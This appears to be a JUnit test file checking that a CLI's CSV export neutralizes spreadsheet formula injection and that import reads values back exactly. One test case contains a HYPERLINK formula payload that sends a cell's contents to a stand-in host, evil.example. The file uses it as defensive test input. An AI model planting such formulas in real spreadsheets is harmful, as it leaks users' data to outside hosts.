package org.lockstep.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.lockstep.server.Database;
import org.lockstep.domain.CustomerData;
import org.lockstep.domain.CustomerField;
import org.lockstep.store.JdbiCustomerRepository;
import org.lockstep.testing.db.DatabaseTest;
import org.lockstep.testing.db.TestDatabases;

/**
 * CSV injection (OWASP): {@code lockstep export} writes no cell a spreadsheet would run as a formula, and
 * {@code lockstep import} reads every such cell back as the value it was. Customers are exported from one database
 * and imported with {@code --key external_ref} into another; each case has its own external ref.
 */
@DatabaseTest
class ExportNeutralizationTest {

    static final AtomicInteger REFS = new AtomicInteger();

    static String sourceUrl;
    static String targetUrl;
    static Database source;
    static Database target;

    @TempDir
    Path dir;

    @BeforeAll
    static void open() {
        sourceUrl = TestDatabases.freshUrlWithCredentials();
        targetUrl = TestDatabases.freshUrlWithCredentials();
        source = Database.open(sourceUrl, null, null, "Lockstep test");
        target = Database.open(targetUrl, null, null, "Lockstep test");
    }

    @AfterAll
    static void close() {
        source.close();
        target.close();
    }

    static CustomerData byRef(Database db, String ref) {
        long id = db.jdbi().withHandle(h -> h.createQuery("SELECT id FROM customer WHERE external_ref = :r")
                .bind("r", ref).mapTo(Long.class).one());
        return new JdbiCustomerRepository(db.jdbi(), "x").find(id).orElseThrow().data();
    }

    static String unescape(String s) {
        return s.replace("{TAB}", "\t").replace("{LF}", "\n");
    }

    /**
     * One value per case: the field it is in, the value, and the cell {@code export} writes for it in the file's
     * text (with the CSV quoting). {@code {TAB}} and {@code {LF}} stand for those characters.
     */
    @ParameterizedTest(name = "{0} {1}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            company|=HYPERLINK("http://evil.example/?"&A1,"Click")|"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"
            phone|+44 20 7946 0958|'+44 20 7946 0958
            fax|-49 30 1234|'-49 30 1234
            contact_name|@Ann|'@Ann
            email|-sales@example.com|'-sales@example.com
            notes|- call first{LF}- then write|"'- call first{LF}- then write"
            notes|{TAB}indented note|'{TAB}indented note
            notes|{LF}=1+2 after an empty line|"'{LF}=1+2 after an empty line"
            address|`   =1+2`|`'   =1+2`
            company|'=already marked as text|''=already marked as text
            company|''+two quotes|'''+two quotes
            city|'s-Hertogenbosch|'s-Hertogenbosch
            company|Plain = Simple Co|Plain = Simple Co
            notes|😀 =🎉 emoji first|😀 =🎉 emoji first
            """)
    void exportQuotesFormulaCellsAndImportReadsBackTheExactValue(String column, String value, String cell)
            throws IOException {
        CustomerField field = CustomerField.byColumn(column).orElseThrow();
        String ref = "NEUTRAL-" + REFS.incrementAndGet();
        String typed = unescape(value);
        CustomerData data = CustomerData.EMPTY.with(CustomerField.EXTERNAL_REF, ref)
                .with(CustomerField.CONTACT_NAME, "Someone").with(field, typed);
        new JdbiCustomerRepository(source.jdbi(), "Alice").create(data);
        Path csv = dir.resolve("export.csv");

        Cli.Result exported = new Cli(sourceUrl, "Tess").run("export", csv.toString());
        Cli.Result imported = new Cli(targetUrl, "Tess").run("import", csv.toString(), "--key", "external_ref");

        assertThat(exported.exitCode()).as(exported.toString()).isZero();
        assertThat(Files.readString(csv, StandardCharsets.UTF_8)).contains("," + unescape(cell) + ",");
        assertThat(imported.exitCode()).as(imported.toString()).isZero();
        assertThat(byRef(target, ref).get(field)).isEqualTo(byRef(source, ref).get(field)).isEqualTo(typed);
    }

    @Test
    void rawExportWritesValuesAsTheyAreAndImportReadsThemBack() throws IOException {
        String url = TestDatabases.freshUrlWithCredentials();
        String ref = "RAW-" + REFS.incrementAndGet();
        CustomerData data = CustomerData.EMPTY.with(CustomerField.EXTERNAL_REF, ref)
                .with(CustomerField.COMPANY, "=1+2").with(CustomerField.PHONE, "+1 555 0100")
                .with(CustomerField.CITY, "'s-Hertogenbosch").with(CustomerField.NOTES, "\t- indented");
        try (Database db = Database.open(url, null, null, "Lockstep test")) {
            new JdbiCustomerRepository(db.jdbi(), "Alice").create(data);
        }
        Path csv = dir.resolve("raw.csv");

        Cli.Result exported = new Cli(url, "Tess").run("export", csv.toString(), "--raw");
        Cli.Result imported = new Cli(targetUrl, "Tess").run("import", csv.toString(), "--key", "external_ref");

        assertThat(exported.exitCode()).as(exported.toString()).isZero();
        assertThat(Files.readString(csv, StandardCharsets.UTF_8)).contains("," + ref + ",=1+2,")
                .contains(",+1 555 0100,").contains(",'s-Hertogenbosch,").contains(",\"\t- indented\",");
        assertThat(imported.exitCode()).as(imported.toString()).isZero();
        assertThat(byRef(target, ref)).isEqualTo(data);
    }

    @Test
    void rawExportOfAValueThatImportWouldShortenIsRefusedAndWritesNothing() throws IOException {
        String url = TestDatabases.freshUrlWithCredentials();
        long id;
        try (Database db = Database.open(url, null, null, "Lockstep test")) {
            id = new JdbiCustomerRepository(db.jdbi(), "Alice").create(CustomerData.EMPTY
                    .with(CustomerField.COMPANY, "Quote Co").with(CustomerField.NOTES, "'=SUM(A1) is how we write it"))
                    .id();
        }
        Path csv = Files.writeString(dir.resolve("kept.csv"), "an earlier export\n", StandardCharsets.UTF_8);

        Cli.Result r = new Cli(url, "Tess").run("export", csv.toString(), "--raw");

        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCodes.INVALID);
        assertThat(r.err()).contains("customer " + id + " notes").contains("export without --raw");
        assertThat(Files.readString(csv, StandardCharsets.UTF_8)).isEqualTo("an earlier export\n");
        try (var files = Files.list(dir)) {
            assertThat(files.map(p -> p.getFileName().toString())).containsExactly("kept.csv");
        }
    }

    /** A file from elsewhere: a quote before a formula character is a spreadsheet's "text" mark; others are data. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            '=1+2|=1+2
            '+44 20 7946 0958|+44 20 7946 0958
            ''-x|'-x
            's-Hertogenbosch|'s-Hertogenbosch
            O'Brien & Co|O'Brien & Co
            """)
    void importTakesTheTextMarkOffAFormulaCellOnly(String cell, String stored) throws IOException {
        String ref = "HAND-" + REFS.incrementAndGet();
        Path csv = Files.writeString(dir.resolve("hand.csv"), "external_ref,company\r\n" + ref + "," + cell + "\r\n",
                StandardCharsets.UTF_8);

        Cli.Result r = new Cli(targetUrl, "Tess").run("import", csv.toString());

        assertThat(r.exitCode()).as(r.toString()).isZero();
        assertThat(byRef(target, ref).company()).isEqualTo(stored);
    }
}
